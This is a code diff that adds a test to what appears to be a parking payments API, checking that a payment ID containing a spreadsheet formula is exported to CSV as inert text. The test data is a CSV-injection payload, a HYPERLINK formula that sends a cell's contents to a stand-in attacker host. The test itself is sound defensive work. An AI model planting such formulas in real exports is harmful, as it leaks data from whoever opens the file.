@@ -126,6 +126,16 @@ def test_payments_as_csv_are_in_local_time(api, as_role):
     ]
 
 
+def test_a_payment_id_that_is_a_formula_is_exported_as_text(api, as_role):
+    enter(api)
+    formula = '=HYPERLINK("http://evil.example/?"&D2,"Receipt")'
+    paid = api.post("/api/payments", json={"plate": PLATE, "payment_id": formula, "at": z(90)},
+                    headers=as_role[Role.PAY_STATION])
+    assert paid.status_code == 200 and paid.json()["payment_id"] == formula  # the JSON keeps it as sent
+    rows = api.get("/api/payments", params={"format": "csv"}, headers=as_role[Role.VIEWER]).text.splitlines()
+    assert rows[1].startswith('1,"\'=HYPERLINK(""http://evil.example/?""&D2,""Receipt"")",1,1234567,')
+
+
 def test_revenue_is_summed_from_payments_by_local_day(api, as_role):
     pay_three(api, as_role[Role.PAY_STATION])
     report = api.get("/api/reports/revenue", params={"from": "2025-03-01", "to": "2025-03-02"},
